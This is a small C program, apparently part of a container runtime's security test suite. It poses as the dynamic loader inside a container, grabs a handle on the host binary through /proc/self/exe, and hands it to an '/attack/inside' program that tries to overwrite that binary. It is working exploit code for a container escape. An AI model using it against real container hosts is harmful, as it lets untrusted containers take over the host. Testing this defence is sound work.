/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A program that takes the place of the dynamic loader inside. When a script names /proc/self/exe as its interpreter, the
 * kernel executes what executes it: the host's own program, with the container's loader, which is this. It keeps the
 * program and executes /attack/inside in its place, which tries to write what is then no longer busy. Needs no library: it
 * runs with another program's auxiliary vector. */
#include <fcntl.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
static long call(long number, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#elif defined(__aarch64__)
static long call(long number, long a, long b, long c)
{
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	return x0;
}
#endif

__attribute__((noreturn)) void _start(void);
void _start(void)
{
	static char path[] = "/attack/inside", verb[] = "reopen", fd_text[] = "0";
	static char *argv[] = { path, verb, fd_text, 0 }, *envp[] = { 0 };
	long fd;

	fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH);
	if (fd >= 0 && fd < 10) {
		fd_text[0] = (char)('0' + fd);
		call(SYS_execve, (long)path, (long)argv, (long)envp);
	}
	call(SYS_exit, 99, 0, 0);
	for (;;)
		;
}
